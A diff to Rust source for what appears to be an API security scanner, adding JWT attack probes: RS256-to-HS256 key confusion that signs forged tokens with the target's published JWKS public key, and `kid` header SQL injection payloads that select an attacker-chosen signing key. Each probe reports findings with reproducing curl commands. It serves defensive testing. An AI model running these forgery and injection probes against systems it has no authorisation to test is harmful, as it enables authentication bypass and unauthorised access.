@@ -1,11 +1,12 @@
 //! API2 (broken authentication), part two: JWT attacks on an identity's own token, each
 //! confirmed on an operation that refuses anonymous callers: `alg: none` in several casings,
 //! a stripped signature, an offline dictionary attack on the HMAC secret (confirmed by a
-//! forged token), expired-token replay, a refresh token used as an access token, and tokens
-//! issued without `exp`.
+//! forged token), expired-token replay, a refresh token used as an access token, tokens
+//! issued without `exp`, RS256→HS256 key confusion with a public key the API publishes (JWKS),
+//! and `kid` header injection.
 
 use base64::Engine as _;
-use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
 use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation};
 use reqwest::Method;
 use serde_json::{Value, json};
@@ -75,6 +76,133 @@ fn oracle(ctx: &Ctx, who: usize) -> Option<(&Op, Req)> {
 
 fn b64(v: &Value) -> String {
     URL_SAFE_NO_PAD.encode(v.to_string())
+}
+
+/// Where APIs publish their token keys, relative to the target.
+const JWKS_PATHS: &[&str] = &[
+    "/.well-known/jwks.json",
+    "/jwks.json",
+    "/.well-known/openid-configuration",
+];
+
+/// A DER length.
+fn der_len(n: usize, out: &mut Vec<u8>) {
+    match n {
+        0..=0x7f => out.push(n as u8),
+        0x80..=0xff => out.extend([0x81, n as u8]),
+        _ => out.extend([0x82, (n >> 8) as u8, n as u8]),
+    }
+}
+
+/// A DER element: tag, length, content.
+fn der(tag: u8, content: &[u8]) -> Vec<u8> {
+    let mut out = vec![tag];
+    der_len(content.len(), &mut out);
+    out.extend_from_slice(content);
+    out
+}
+
+/// A DER INTEGER from big-endian unsigned bytes.
+fn der_uint(bytes: &[u8]) -> Vec<u8> {
+    let trimmed = match bytes.iter().position(|&b| b != 0) {
+        Some(i) => &bytes[i..],
+        None => &[0u8][..],
+    };
+    let mut content = Vec::with_capacity(trimmed.len() + 1);
+    if trimmed[0] & 0x80 != 0 {
+        content.push(0);
+    }
+    content.extend_from_slice(trimmed);
+    der(0x02, &content)
+}
+
+/// The PEM text of an RSA public key given as a JWK's `n` and `e` (big-endian bytes): the
+/// SubjectPublicKeyInfo form (`BEGIN PUBLIC KEY`) or, with `pkcs1`, the bare RSAPublicKey
+/// form (`BEGIN RSA PUBLIC KEY`). Servers that misuse a public key as an HMAC secret use one of
+/// these texts byte for byte, so the key confusion probe tries both.
+pub fn rsa_public_key_pem(n: &[u8], e: &[u8], pkcs1: bool) -> String {
+    let rsa = der(0x30, &[der_uint(n), der_uint(e)].concat());
+    let (label, body) = if pkcs1 {
+        ("RSA PUBLIC KEY", rsa)
+    } else {
+        // rsaEncryption (1.2.840.113549.1.1.1) with NULL parameters.
+        const ALG: &[u8] = &[
+            0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05,
+            0x00,
+        ];
+        let bits = der(0x03, &[&[0u8][..], &rsa].concat());
+        ("PUBLIC KEY", der(0x30, &[ALG, &bits].concat()))
+    };
+    let text = STANDARD.encode(body);
+    let mut pem = format!("-----BEGIN {label}-----\n");
+    for line in text.as_bytes().chunks(64) {
+        pem.push_str(&String::from_utf8_lossy(line));
+        pem.push('\n');
+    }
+    pem.push_str(&format!("-----END {label}-----\n"));
+    pem
+}
+
+/// The RSA keys (`n`, `e`) the target publishes, from the first key set found.
+async fn published_rsa_keys(ctx: &Ctx) -> Vec<(Vec<u8>, Vec<u8>)> {
+    for path in JWKS_PATHS {
+        let Some(resp) = ctx.send(&Req::new(Method::GET, *path)).await else {
+            continue;
+        };
+        let Some(mut doc) = resp.json().filter(|_| resp.ok()) else {
+            continue;
+        };
+        // An OpenID configuration names the key set; follow it on the target only.
+        if let Some(uri) = doc.get("jwks_uri").and_then(Value::as_str)
+            && let Ok(url) = url::Url::parse(uri)
+        {
+            let Some(resp) = ctx.send(&Req::new(Method::GET, url.path())).await else {
+                continue;
+            };
+            match resp.json().filter(|_| resp.ok()) {
+                Some(d) => doc = d,
+                None => continue,
+            }
+        }
+        let keys: Vec<_> = doc
+            .get("keys")
+            .and_then(Value::as_array)
+            .into_iter()
+            .flatten()
+            .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
+            .filter_map(|k| {
+                let n = URL_SAFE_NO_PAD.decode(k.get("n")?.as_str()?).ok()?;
+                let e = URL_SAFE_NO_PAD.decode(k.get("e")?.as_str()?).ok()?;
+                Some((n, e))
+            })
+            .take(3)
+            .collect();
+        if !keys.is_empty() {
+            return keys;
+        }
+    }
+    Vec::new()
+}
+
+/// `claims` made current: fresh `iat`, `exp` ten minutes ahead, a new `jti`.
+fn refreshed(claims: &Value) -> Value {
+    let mut fresh = claims.clone();
+    fresh["iat"] = json!(now());
+    if fresh.get("exp").is_some() {
+        fresh["exp"] = json!(now() + 600);
+    }
+    if fresh.get("jti").is_some() {
+        fresh["jti"] = json!(format!("portcullis-forged-{}", super::tag()));
+    }
+    fresh
+}
+
+/// An HS256 token over `claims`, keyed with `secret`, with `kid` in its header.
+fn hs256(claims: &Value, secret: &[u8], kid: Option<String>) -> Option<String> {
+    let key = EncodingKey::from_secret(secret).ok()?;
+    let mut header = Header::new(Algorithm::HS256);
+    header.kid = kid;
+    jsonwebtoken::encode(&header, claims, &key).ok()
 }
 
 pub(crate) async fn run(ctx: &Ctx) {
@@ -175,14 +303,7 @@ pub(crate) async fn run(ctx: &Ctx) {
             let k = EncodingKey::from_secret(word.as_bytes()).ok()?;
             jsonwebtoken::encode(&Header::new(alg), c, &k).ok()
         };
-        let mut fresh = claims.clone();
-        fresh["iat"] = json!(now());
-        if fresh.get("exp").is_some() {
-            fresh["exp"] = json!(now() + 600);
-        }
-        if fresh.get("jti").is_some() {
-            fresh["jti"] = json!(format!("portcullis-forged-{}", super::tag()));
-        }
+        let fresh = refreshed(&claims);
         let mut finding = Finding::new(rules::JWT_WEAK_SECRET, Severity::Critical, &key, "").detail(format!(
             "The token's {alg:?} secret was found offline: it is word #{rank} of the bundled word list ({} characters; not shown).",
             word.len()
@@ -218,6 +339,64 @@ pub(crate) async fn run(ctx: &Ctx) {
                         .reproduce(ctx.http.curl(&req)),
                 );
             }
+        }
+    }
+
+    // RS256 -> HS256 confusion: the published public key, as PEM text, used as an HMAC secret.
+    let keys = published_rsa_keys(ctx).await;
+    'confusion: for (n, e) in &keys {
+        for (pkcs1, trailing_newline) in
+            [(false, true), (false, false), (true, true), (true, false)]
+        {
+            let mut pem = rsa_public_key_pem(n, e, pkcs1);
+            if !trailing_newline {
+                pem.pop();
+            }
+            let kid = header.get("kid").and_then(Value::as_str).map(str::to_owned);
+            let Some(t) = hs256(&refreshed(&claims), pem.as_bytes(), kid) else {
+                continue;
+            };
+            let req = try_token("HS256 keyed with the published RSA public key", t);
+            if let Some(resp) = ctx.send(&req).await
+                && resp.ok()
+            {
+                ctx.report(
+                    Finding::new(rules::JWT_KEY_CONFUSION, Severity::Critical, &key, "")
+                        .detail(format!(
+                            "The API publishes its RSA public key (JWKS). An HS256 token whose HMAC secret is that key's {} PEM text{} was accepted: anyone can mint tokens.",
+                            if pkcs1 { "PKCS#1" } else { "SubjectPublicKeyInfo" },
+                            if trailing_newline { "" } else { " (no final newline)" },
+                        ))
+                        .evidence(ctx.http.exchange(&req, Some(&resp)))
+                        .reproduce(ctx.http.curl(&req)),
+                );
+                break 'confusion;
+            }
+        }
+    }
+
+    // `kid` injection: a key id that, spliced into the key lookup's SQL, selects a key we choose.
+    let chosen = format!("portcullis-kid-{}", super::tag());
+    for kid in [
+        format!("portcullis-none' UNION SELECT '{chosen}' -- "),
+        format!("portcullis-none\" UNION SELECT \"{chosen}\" -- "),
+    ] {
+        let Some(t) = hs256(&refreshed(&claims), chosen.as_bytes(), Some(kid.clone())) else {
+            continue;
+        };
+        let req = try_token("kid injection", t);
+        if let Some(resp) = ctx.send(&req).await
+            && resp.ok()
+        {
+            ctx.report(
+                Finding::new(rules::JWT_KID_INJECTION, Severity::Critical, &key, "")
+                    .detail(format!(
+                        "A token whose `kid` header is `{kid}` and which is signed with the key that kid selects was accepted: the key lookup runs the header as SQL."
+                    ))
+                    .evidence(ctx.http.exchange(&req, Some(&resp)))
+                    .reproduce(ctx.http.curl(&req)),
+            );
+            break;
         }
     }
 
